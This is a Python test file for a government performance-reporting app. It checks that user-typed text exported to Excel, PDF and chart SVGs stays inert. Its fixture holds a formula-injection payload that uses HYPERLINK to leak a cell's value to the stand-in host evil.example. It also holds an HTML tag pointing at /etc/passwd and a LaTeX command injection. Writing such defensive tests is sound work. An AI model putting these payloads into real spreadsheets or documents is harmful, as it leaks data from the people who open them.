"""What users typed never runs in a reader's program: no live formulas in .xlsx, no markup in the PDF,
no mathematics in charts (issue 'Files from the real world', exports)."""

import io
import re
from dataclasses import replace

from openpyxl import load_workbook

from kinerja.reports.build import lkjip, pengukuran, perjanjian
from kinerja.reports.render import render
from kinerja.web.performance.models import AgencyYear
from kinerja.web.performance.reporting import agency_year_data
from tests.reports.test_reports import Everyone, pdf_text

FORMULA = '=HYPERLINK("http://evil.example/?leak="&C5,"Klik")'


def hostile(agency):
    data = agency_year_data(AgencyYear.objects.get(agency=agency, year=2016), Everyone())
    lines = [replace(data.lines[0], name=FORMULA, sasaran="=1+1"), *data.lines[1:]]
    signatory = replace(data.signatory, title="<b>Kepala", name='<img src="/etc/passwd"/> Nama')
    return replace(data, lines=lines, signatory=signatory)


def test_typed_text_is_never_a_formula_in_xlsx(banjar, agency):
    data = hostile(agency)
    for builder in (pengukuran, perjanjian, lkjip):
        workbook = load_workbook(io.BytesIO(render(builder(data), "xlsx")))
        cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.value == FORMULA]
        assert cells, builder.__name__
        assert all(c.data_type == "s" for c in cells)


KINERJA_FORMULA = re.compile(  # the sum, average, ratio, difference and share that kinerja writes itself
    r"=(SUM|AVERAGE)\([A-Z]+\d+(,[A-Z]+\d+)*\)"
    r'|=IF\([A-Z]+\d+=0,"",[A-Z]+\d+/[A-Z]+\d+\*100\)'
    r"|=[A-Z]+\d+-[A-Z]+\d+"
    r"|=[A-Z]+\d+\*[A-Z]+\d+/100"
)


def test_only_kinerja_own_arithmetic_is_a_formula_in_xlsx(banjar, agency):
    """A typed name that starts a note under a table ("<name>: capaian tidak dapat dihitung") went in
    as a live formula: the notes row was written without the text guard of the cells above it."""
    from kinerja.core.model import Achievement
    from kinerja.core.values import EMPTY

    data = hostile(agency)
    no_target = Achievement(None, "realisasi ÷ target × 100", "target belum diisi")  # explained in a note
    undefined = replace(data.lines[0], target=EMPTY, achievement=no_target, band=None)
    data = replace(data, lines=[undefined, *data.lines[1:]])
    for builder in (pengukuran, perjanjian, lkjip):
        workbook = load_workbook(io.BytesIO(render(builder(data), "xlsx")))
        formulas = [c.value for sheet in workbook for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        assert all(KINERJA_FORMULA.fullmatch(f) for f in formulas), (builder.__name__, formulas[:3])
        notes = [c for sheet in workbook for row in sheet.iter_rows() for c in row if str(c.value).startswith(FORMULA)]
        assert builder is not lkjip or notes, "the LKjIP's note on the undefined capaian names the indicator"


def test_typed_text_is_never_markup_in_the_pdf(banjar, agency):
    text = re.sub(r"\s+", " ", pdf_text(render(pengukuran(hostile(agency)), "pdf")))
    assert "<b>Kepala" in text and '<img src="/etc/passwd"/> Nama' in text


def test_dollar_signs_are_text_in_charts(banjar, agency, client):
    from kinerja.web.performance.models import Target

    target = Target.objects.filter(year=2016, indicator__agency=agency).first()
    target.name = r"Indikator $\undefinedcmd{x}$ uji"
    target.save()
    response = client.get(f"/indikator/{target.indicator_id}/grafik.svg")
    assert response.status_code == 200 and b"undefinedcmd" in response.content
    assert render(lkjip(agency_year_data(AgencyYear.objects.get(agency=agency, year=2016), Everyone())), "pdf")
